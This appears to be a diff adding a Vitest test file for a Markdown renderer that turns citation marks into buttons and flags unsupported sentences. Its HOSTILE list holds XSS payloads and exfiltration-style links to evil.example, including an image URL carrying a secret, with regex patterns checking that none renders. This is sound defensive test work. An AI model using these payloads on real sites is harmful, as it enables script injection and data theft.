@@ -1,0 +1,95 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, it } from "vitest";
+import { Markdown } from "@/components/markdown";
+import type { MarkedSentence } from "@/lib/answer-marks";
+
+function render(text: string, sources = 3, sentences: MarkedSentence[] = []): string {
+  return renderToStaticMarkup(<Markdown text={text} sources={sources} sentences={sentences} renderCitation={(n, s) => <button>{`pill ${n} of ${s}`}</button>} />);
+}
+
+describe("answers as Markdown", () => {
+  it("turns marks into pills, but only those of sources", () => {
+    const html = render("First [1]. Second [2, 3], third [4], year [2020].");
+    expect(html).toContain("<button>pill 1 of -1</button>");
+    expect(html).toContain("<button>pill 2 of -1</button><button>pill 3 of -1</button>");
+    expect(html).toContain("third [4], year [2020].");
+  });
+
+  it("leaves code alone", () => {
+    const html = render("`a[1]` and\n\n```\nb[2]\n```\n");
+    expect(html).not.toContain("pill");
+    expect(html).toContain("a[1]");
+  });
+
+  it("knows the sentence of a mark behind emoji and escapes", () => {
+    const first = "🎉🎉 Tested 🧪 [1].";
+    const text = `${first} Then *more* [2].`;
+    const sentences: MarkedSentence[] = [
+      { answer_start: 0, answer_end: Array.from(first).length, verdict: "supported" },
+      { answer_start: Array.from(first).length + 1, answer_end: Array.from(text).length, verdict: "weak" },
+    ];
+    const html = render(text, 2, sentences);
+    expect(html).toContain("pill 1 of 0");
+    expect(html).toContain("pill 2 of 1");
+    expect(html).toMatch(/🧪 <button>/);
+    expect(html).toContain('class="sentence-weak"');
+    expect(html.indexOf("sentence-weak")).toBeGreaterThan(html.indexOf("pill 1"));
+  });
+
+  it("marks an unsupported sentence inside a list", () => {
+    const text = "- One fact.\n- Two facts [1].";
+    const html = render(text, 1, [{ answer_start: 2, answer_end: 11, verdict: "unsupported" }]);
+    expect(html).toContain('<span class="sentence-unsupported" title="Not supported by the sources">One fact.</span>');
+  });
+
+  it("keeps a numeric reference a citation when the text defines it as a link", () => {
+    const html = render("See [1] and [words][1].\n\n[1]: https://evil.example/x");
+    expect(html).toContain("pill 1");
+    expect(html).not.toContain("evil.example");
+  });
+
+  const HOSTILE = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    "![secret](https://evil.example/?q=secret)",
+    "![a][b]\n\n[b]: https://evil.example/i.png",
+    "[click](javascript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:x)",
+    '<a href="javascript:alert(1)">x</a>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<svg onload=alert(1)>',
+    "<style>@import 'https://evil.example'</style>",
+    '<link rel="stylesheet" href="https://evil.example">',
+    "[x](//evil.example/a)",
+    "[x](file:///etc/passwd)",
+    '<details open ontoggle=alert(1)>',
+    '<form action="https://evil.example"><input name=a></form>',
+    '<object data="https://evil.example"></object>',
+    '<base href="https://evil.example">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](\u0001javascript:alert(1))",
+    "<math><mtext></mtext><style><img src onerror=alert(1)></style></math>",
+    "- [ ] ![t](https://evil.example/t)",
+    "| ![c](https://evil.example/c) |\n|---|\n| <img src=https://evil.example> |",
+  ];
+
+  it.each(HOSTILE)("renders nothing that runs or asks elsewhere: %s", (text) => {
+    // Only tags count: a payload shown as escaped text is the right outcome.
+    const html = render(text).match(/<[^>]*>/g)?.join("") ?? "";
+    expect(html).not.toMatch(/<(script|img|iframe|svg|style|link|form|object|base|meta|input|math|details)\b/i);
+    expect(html).not.toMatch(/\s(on\w+|src|style|srcset|action)=/i);
+    expect(html).not.toMatch(/href="(?!https?:\/\/)/i);
+  });
+
+  it("shows the host that a link goes to, and opens it apart", () => {
+    expect(render("[my bank](https://evil.example/login)")).toBe(
+      '<p><a href="https://evil.example/login" target="_blank" rel="noopener noreferrer nofollow">my bank<span class="text-muted"> (evil.example)</span></a></p>',
+    );
+  });
+
+  it("draws tables", () => {
+    expect(render("| a | b |\n|---|---|\n| 1 [1] | 2 |")).toContain("<td>1 <button>pill 1");
+  });
+});
